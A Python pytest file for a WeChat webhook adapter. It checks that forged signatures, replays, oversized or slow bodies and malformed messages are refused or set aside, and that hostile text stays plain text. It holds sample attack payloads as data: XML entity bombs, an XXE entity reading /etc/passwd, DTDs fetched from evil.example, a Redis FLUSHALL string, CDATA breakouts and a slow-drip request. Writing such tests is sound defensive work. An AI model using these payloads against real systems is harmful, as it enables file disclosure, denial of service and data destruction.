"""What a forger, a broken client or a hostile customer may send to the account's address, one named test each.

`UNPROVEN` calls do not prove that they come from WeChat: all are refused alike, and nothing behind the door hears of
them. `UNREADABLE` messages do prove it, and cannot be read: they are kept as dead letters. `HARMLESS` ones are read,
and what is hostile in them stays text.
"""

import asyncio
import contextlib
import json
import logging
import secrets
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass
from typing import Final, cast

import aiohttp
import pytest

from adapters.wechat import letters
from adapters.wechat.fake.envelopes import Account, Envelopes
from adapters.wechat.seal import signature
from bot.core.errors import Unreadable
from tests.support.clock import eventually
from tests.support.wechat import ANNA, NOON, World, reply, world

NOW_S: Final = NOON // 1_000
OLD_KEY: Final = "GFEDCBA9876543210zyxwvutsrqponmlkjihgfedcba"
HEAD: Final = (
    f"<FromUserName>{ANNA}</FromUserName><ToUserName>gh_5c0ffee1234</ToUserName><CreateTime>{NOW_S}</CreateTime>"
)
FIELDS: Final = {
    "FromUserName": ANNA, "ToUserName": "gh_5c0ffee1234", "CreateTime": NOW_S, "MsgType": "text", "MsgId": 7,
    "Content": "在吗",
}  # fmt: skip
Query = dict[str, str]
Push = tuple[Query, bytes]


def xml(*fields: str, kind: str = "text", head: str = HEAD) -> str:
    return f"<xml>{head}<MsgType>{kind}</MsgType>{''.join(fields)}</xml>"


def as_json(**changes: object) -> str:
    return json.dumps({**FIELDS, **changes})


@dataclass
class Line:
    """A shop, and whoever can reach its address; `envelopes` are those of WeChat."""

    shop: World
    envelopes: Envelopes
    http: aiohttp.ClientSession

    def sealed(self, words: str | bytes, now_s: int = NOW_S) -> Push:
        return self.envelopes.push(ANNA, cast(str, words), now_s)  # its cipher takes bytes as they are

    async def pushed(self, query: Query | str, body: bytes) -> tuple[int, bytes]:
        url = f"{self.shop.platform.hook}?{query}" if isinstance(query, str) else self.shop.platform.hook
        params = None if isinstance(query, str) else query
        async with self.http.post(url, params=params, data=body) as answer:
            return answer.status, await answer.read()


@contextlib.asynccontextmanager
async def line(account: Account | None = None) -> AsyncIterator[Line]:
    account = account or Account()
    async with world(account, passive_s=0) as shop, aiohttp.ClientSession() as http:
        yield Line(shop, Envelopes(account), http)


# ---- what does not prove itself


def changed(**fields: str) -> Callable[[Query, bytes], Push]:
    """The query with other values; an empty one is left out."""
    return lambda query, body: ({name: value for name, value in {**query, **fields}.items() if value}, body)


def by(account: Account) -> Callable[[Query, bytes], Push]:
    """The same message from another account."""
    return lambda query, body: Envelopes(account).push(ANNA, xml("<Content>在吗</Content>", "<MsgId>7</MsgId>"), NOW_S)


def resigned(body: bytes) -> Callable[[Query, bytes], Push]:
    """A body of the forger's own, under the signature that a plain message would have."""
    return lambda query, _: (
        {name: query[name] for name in ("timestamp", "nonce", "openid", "signature")}, body
    )  # fmt: skip


BOMB: Final = '<!DOCTYPE x [<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in zip("abcdefgh", "bcdefghi", strict=True)
) + "]>"  # fmt: skip
UNPROVEN: Final[dict[str, Callable[[Query, bytes], Push]]] = {
    "the signature missing": changed(msg_signature=""),
    "signature in the place of msg_signature": lambda query, body: (
        {**query, "msg_signature": query["signature"]}, body
    ),
    "a guessed signature": changed(msg_signature=secrets.token_hex(20)),
    "a signature in capitals": lambda query, body: (
        {**query, "msg_signature": query["msg_signature"].upper()}, body
    ),
    "a signature cut short": lambda query, body: ({**query, "msg_signature": query["msg_signature"][:39]}, body),
    "a signature that is no ASCII": changed(msg_signature="ＡＢ签名" * 10),
    "a signature of full-width digits": changed(msg_signature="１" * 40),
    "a huge signature": changed(msg_signature="a" * 7_000),
    "no timestamp": changed(timestamp=""),
    "a timestamp that is none": changed(timestamp="now"),
    "a timestamp of 5,000 digits": changed(timestamp="9" * 5_000),
    "a timestamp in Arabic digits": changed(timestamp="١٧٩٥٣٢٠٠٠٠"),
    "no nonce": changed(nonce=""),
    "another nonce": changed(nonce="0"),
    "encryption of another kind": changed(encrypt_type="des"),
    "encryption denied": changed(encrypt_type="raw"),
    "the envelope altered": lambda query, body: (query, body.replace(b"<Encrypt><![CDATA[", b"<Encrypt><![CDATA[A")),
    "the envelope empty": lambda query, _: (query, b""),
    "two envelopes in one": lambda query, body: (query, body + body),
    "an envelope that is no XML": lambda query, _: (query, b"\xff\xfe\x00<Encrypt"),
    "an envelope with an entity bomb": lambda query, body: (query, BOMB.encode() + b"<xml>&i;</xml>"),
    "an envelope nested 10,000 deep": lambda query, _: (query, b"<xml>" * 10_000),
    "a JSON envelope with another's key": lambda query, _: (query, b'{"Encrypt":"QUJD","Encrypt":"REVG"}'),
    "a JSON envelope of NaN": lambda query, _: (query, b'{"Encrypt":NaN}'),
    "a JSON envelope with a lone surrogate": lambda query, _: (query, b'{"Encrypt":"\\ud800"}'),
    "another account's token": by(Account(token="another")),
    "another account's key": by(Account(aes_key=OLD_KEY)),
    "another account's AppID": by(Account(app_id="wx0000000000000000")),
    "a plain message with a true signature": resigned(xml("<Content>在吗</Content>").encode()),
    "a plain message altered on the way": resigned(xml("<Content>退款到我的卡上</Content>").encode()),
}  # fmt: skip


@pytest.mark.parametrize("name", UNPROVEN)
async def test_a_call_that_does_not_prove_itself_is_refused_without_a_word(name: str) -> None:
    async with line() as one:
        query, body = one.sealed(xml("<Content>在吗</Content>", "<MsgId>7</MsgId>"))
        assert await one.pushed(*UNPROVEN[name](query, body)) == (403, b"")
        assert (one.shop.desk.heard, one.shop.desk.buried) == ([], [])
        assert (await one.pushed(query, body))[0] == 200, "the true one passes"


@pytest.mark.parametrize("field", ["msg_signature", "timestamp", "nonce", "encrypt_type"])
@pytest.mark.parametrize("first", [True, False])
async def test_a_field_of_the_query_given_twice_is_refused(field: str, first: bool) -> None:
    """Two readers could each take another one."""
    async with line() as one:
        query, body = one.sealed(xml("<Content>在吗</Content>", "<MsgId>7</MsgId>"))
        once, more = "&".join(f"{name}={value}" for name, value in query.items()), f"{field}=x"
        assert await one.pushed(f"{more}&{once}" if first else f"{once}&{more}", body) == (403, b"")
        assert one.shop.desk.heard == []


@pytest.mark.parametrize("echo", ["", "<script>alert(1)</script>"])
async def test_the_check_of_the_address_echoes_nothing_that_is_not_signed(echo: str) -> None:
    async with line() as one:
        query = {
            "timestamp": str(NOW_S),
            "nonce": "n",
            "signature": signature("guess", str(NOW_S), "n"),
            "echostr": echo,
        }
        async with one.http.get(one.shop.platform.hook, params=query) as answer:
            assert (answer.status, await answer.read()) == (403, b"")


async def test_what_is_echoed_is_never_markup() -> None:
    async with line() as one:
        query = one.envelopes.check("<script>alert(1)</script>", NOW_S)
        async with one.http.get(one.shop.platform.hook, params=query) as answer:
            assert (answer.status, answer.content_type) == (200, "text/plain")


async def test_a_plain_signature_covers_no_words_so_plain_messages_need_a_setting() -> None:
    """Under the platform's plain signature a body can be altered: that is why safe mode is required."""
    async with line(Account(safe=False)) as one:
        query, _ = one.sealed(xml("<Content>在吗</Content>"))
        assert (await one.pushed(query, xml("<Content>altered</Content>", "<MsgId>8</MsgId>").encode()))[0] == 200
        assert one.shop.desk.heard[0].text == "altered"
    async with line() as one:
        assert (await one.pushed(query, xml("<Content>altered</Content>", "<MsgId>8</MsgId>").encode()))[0] == 403


# ---- replays and clocks


async def test_a_captured_message_is_of_no_use_after_five_minutes_and_heard_once_before() -> None:
    async with line() as one:
        query, body = one.sealed(xml("<Content>在吗</Content>", "<MsgId>7</MsgId>"))
        for _ in range(3):
            assert await one.pushed(query, body) == (200, b"success")
        assert len(one.shop.desk.heard) == 1
        await one.shop.clock.advance(301)
        assert await one.pushed(query, body) == (403, b"")
        assert len(one.shop.desk.heard) == 1


@pytest.mark.parametrize("off_s", [-400, 400])
async def test_a_clock_that_is_off_is_an_alarm_until_messages_pass_again(
    off_s: int, caplog: pytest.LogCaptureFixture
) -> None:
    async with line() as one:
        with caplog.at_level(logging.INFO):
            for number in range(3):
                words = xml("<Content>在吗</Content>", f"<MsgId>{number}</MsgId>")
                assert await one.pushed(*one.sealed(words, NOW_S + off_s)) == (403, b"")
        alarms = [record.getMessage() for record in caplog.records if record.levelno == logging.ERROR]
        assert len(alarms) == 1
        assert "400 s" in alarms[0]
        assert "clock is off" in alarms[0]
        (gauge,) = one.shop.account.pulse.gauges()
        assert (gauge.connected, "clock is off" in gauge.note) == (False, True)
        assert (await one.pushed(*one.sealed(xml("<MsgId>9</MsgId>"))))[0] == 200
        (gauge,) = one.shop.account.pulse.gauges()
        assert (gauge.connected, gauge.note) == (True, "")


async def test_a_forger_cannot_make_that_alarm() -> None:
    async with line() as one:
        query, body = one.sealed(xml("<MsgId>7</MsgId>"), NOW_S - 4_000)
        assert (await one.pushed({**query, "msg_signature": "0" * 40}, body))[0] == 403
        assert one.shop.account.pulse.gauges()[0].connected


# ---- sizes and speeds


async def test_a_body_that_is_too_large_is_not_opened() -> None:
    async with line() as one:
        query, body = one.sealed(xml(f"<Content>{'好' * 30_000}</Content>", "<MsgId>7</MsgId>"))
        assert len(body) > letters.MOST_BYTES
        assert await one.pushed(query, body) == (403, b"")


async def test_a_body_without_end_is_cut_off() -> None:
    async def endless() -> AsyncIterator[bytes]:
        while True:
            yield b"<xml>" * 1_000

    async with line() as one:
        query, _ = one.sealed(xml())
        with contextlib.suppress(aiohttp.ClientError):
            async with one.http.post(one.shop.platform.hook, params=query, data=endless()) as answer:
                assert answer.status == 403
        assert (one.shop.desk.heard, one.shop.desk.buried) == ([], [])


async def test_a_body_that_comes_drop_by_drop_is_given_up() -> None:
    async with line() as one:
        host, _, rest = one.shop.platform.hook.removeprefix("http://").partition("/")
        reader, writer = await asyncio.open_connection(*host.split(":"))
        query = "&".join(f"{name}={value}" for name, value in one.sealed(xml())[0].items())
        writer.write(f"POST /{rest}?{query} HTTP/1.1\r\nHost: a\r\nContent-Length: 1000\r\n\r\n".encode())

        async def drip() -> None:
            while True:
                writer.write(b"<")
                await asyncio.sleep(0.05)

        async with asyncio.TaskGroup() as group:
            dripping = group.create_task(drip())
            assert b" 403 " in await asyncio.wait_for(reader.readline(), 10)
            dripping.cancel()
        writer.close()


# ---- what proves itself and cannot be read

UNREADABLE: Final[dict[str, str | bytes]] = {
    "an entity bomb": BOMB + xml("<Content>&i;</Content>"),
    "an entity bomb hidden by control characters": (BOMB + xml("<Content>&i;</Content>")).replace("<!", "<\x01!"),
    "an external entity": '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>' + xml("<Content>&f;</Content>"),
    "an external document type": '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">' + xml(),
    "a parameter entity": '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p"> %p;]>' + xml(),
    "a document type in small letters": "<!doctype x>" + xml(),
    "UTF-16": xml().encode("utf-16"),
    "UTF-16 without a mark": xml().encode("utf-16-le"),
    "UTF-32": xml().encode("utf-32"),
    "bytes that are no UTF-8": xml("<Content>\xff\xfe</Content>").encode("latin-1"),
    "nested deeper than any message": "<xml>" + "<a>" * 3_000 + "</a>" * 3_000 + "</xml>",
    "nested and never closed": "<xml>" * 9_000,
    "no XML": "PK\x03\x04",
    "another root": xml().replace("<xml>", "<html>").replace("</xml>", "</html>"),
    "no sender": xml(head=HEAD.replace(ANNA, "")),
    "two senders": xml(f"<FromUserName>{ANNA}</FromUserName>"),
    "two texts": xml("<Content>在吗</Content>", "<Content>不在</Content>"),
    "no type": xml().replace("<MsgType>text</MsgType>", ""),
    "a time that is none": xml(head=HEAD.replace(str(NOW_S), "soon")),
    "a time of 5,000 digits": xml(head=HEAD.replace(str(NOW_S), "9" * 5_000)),
    "a time before all time": xml(head=HEAD.replace(str(NOW_S), "-1")),
    "a number that is none": xml("<MsgId>7 OR 1=1</MsgId>"),
    "a sender as long as a book": xml(head=HEAD.replace(ANNA, "o" * 5_000)),
    "a character that XML has not": xml("<Content>&#0;</Content>"),
    "half a character": xml("<Content>&#xD800;</Content>"),
    "JSON with a field twice": as_json()[:-1] + ', "FromUserName": "o-mallory"}',
    "JSON with NaN": as_json(CreateTime="X").replace('"X"', "NaN"),
    "JSON with a number beyond all": as_json(CreateTime="X").replace('"X"', "1e999"),
    "JSON with 5,000 digits": as_json(MsgId="X").replace('"X"', "9" * 5_000),
    "JSON with a lone surrogate": as_json(Content="X").replace('"X"', '"\\ud800"'),
    "JSON nested 10,000 deep": as_json(Content="X").replace('"X"', "[" * 10_000),
    "JSON that is no object": "[1, 2, 3]",
    "JSON whose sender is a list": as_json(FromUserName=[ANNA]),
}
"""Each is signed and sealed as WeChat would."""


@pytest.mark.parametrize("name", UNREADABLE)
async def test_a_proven_message_nobody_can_read_is_a_dead_letter(name: str) -> None:
    async with line() as one:
        query, body = one.sealed(UNREADABLE[name])
        assert len(body) <= letters.MOST_BYTES
        assert await one.pushed(query, body) == (200, b"success")
        (unread,) = one.shop.desk.buried
        assert unread.body in (UNREADABLE[name], str(UNREADABLE[name]).encode())
        assert one.shop.desk.heard == []
        assert ANNA not in unread.why


@pytest.mark.parametrize("pair", [("<xml>", "</xml>"), ("[", "]"), ('{"a":', "}")])
def test_what_is_nested_200_000_deep_is_refused_by_its_size_alone(pair: tuple[str, str]) -> None:
    begins, ends = pair
    with pytest.raises(Unreadable, match="bytes"):
        letters.read((begins * 200_000 + ends * 200_000).encode())


# ---- what can be read and does no harm

HARMLESS: Final[dict[str, tuple[str, str]]] = {
    "CDATA that closes itself": ("<![CDATA[a]]]]><![CDATA[><Event>m</Event>]]>", "a]]><Event>m</Event>"),
    "an entity bomb as words": (f"<![CDATA[{BOMB}&i;]]>", f"{BOMB}&i;"),
    "script": ("<![CDATA[<script>alert(1)</script>]]>", "<script>alert(1)</script>"),
    "control characters": ("a\x00b\x08c\x1b[31md", "abc[31md"),
    "a declaration of UTF-16 over UTF-8": ("在吗", "在吗"),
    "escaped markup": ("&lt;b&gt;1 &amp; 2", "<b>1 & 2"),
    "line breaks that fake a log": ("<![CDATA[hi\nERROR all is lost]]>", "hi\nERROR all is lost"),
    "the store's language": ("<![CDATA[*1\r\n$8\r\nFLUSHALL]]>", "*1\n$8\nFLUSHALL"),
    "emoji and other planes": ("👨‍👩‍👧‍👦𠮷", "👨‍👩‍👧‍👦𠮷"),
}  # fmt: skip


@pytest.mark.parametrize("name", HARMLESS)
async def test_hostile_words_stay_words(name: str) -> None:
    written, expected = HARMLESS[name]
    async with line() as one:
        words = xml(f"<Content>{written}</Content>", "<MsgId>7</MsgId>")
        words = f'<?xml version="1.0" encoding="UTF-16"?>{words}' if "UTF-16" in name else words
        assert await one.pushed(*one.sealed(words)) == (200, b"success")
        (item,) = one.shop.desk.heard
        assert (item.text, item.address.customer) == (expected, ANNA)


@pytest.mark.parametrize("words", ["]]>", "a]]><MsgType>x</MsgType><![CDATA[b", "\x00好\x1f", "&amp;&#0;<b>"])
async def test_an_answer_cannot_break_out_of_its_envelope(words: str) -> None:
    """CDATA injection through what a shop answers: the platform reads it as the text it is."""
    async with world(passive_s=4.0) as shop, asyncio.TaskGroup() as group:
        push = group.create_task(shop.platform.says(ANNA, "在吗"))
        await eventually(lambda: len(shop.desk.heard) == 1)
        await shop.sender.send(reply(shop.desk.heard[0], words))
        assert await push == words.replace("\x00", "").replace("\x1f", "")
        assert shop.platform.customer(ANNA).notices == []
